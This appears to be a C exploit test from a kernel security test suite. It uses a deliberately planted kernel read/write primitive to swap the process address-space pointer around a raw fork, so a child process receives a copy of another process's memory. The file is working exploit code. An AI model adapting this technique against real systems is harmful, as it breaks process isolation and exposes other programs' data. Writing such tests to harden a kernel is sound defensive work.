/* The attack's process has the first process's address space, for as long as a fork takes: the
 * child is a copy of that. */
#include <sched.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "attack.h"
#include "raw_call.h"

int main(void)
{
	static const uint64_t no_arguments[6];
	uint64_t own, theirs;
	struct bw_leak leak;
	long child;

	attack_begin(&leak, 1, 0);
	own = (uint64_t)bw_vuln_read(leak.process_as);
	theirs = (uint64_t)bw_vuln_read(leak.process_first + (leak.process_as - leak.process));
	attack_say("the address space of this process is at 0x%lx, for one fork at 0x%lx", own,
		   theirs);
	/* nothing between may touch a page that is not there yet, or lose the processor */
	sched_yield();
	attack_check("vuln_write", bw_vuln_write(leak.process_as, theirs));
	child = raw_call(SYS_fork, no_arguments);
	bw_vuln_write(leak.process_as, own);
	if (child < 0) {
		attack_skip("no memory for another process");
	}
	/* it would go on with what the first process has at this place */
	kill((pid_t)child, SIGKILL);
	waitpid((pid_t)child, NULL, 0);
	attack_say("process %ld had the first process's pages", child);
	return attack_finish();
}
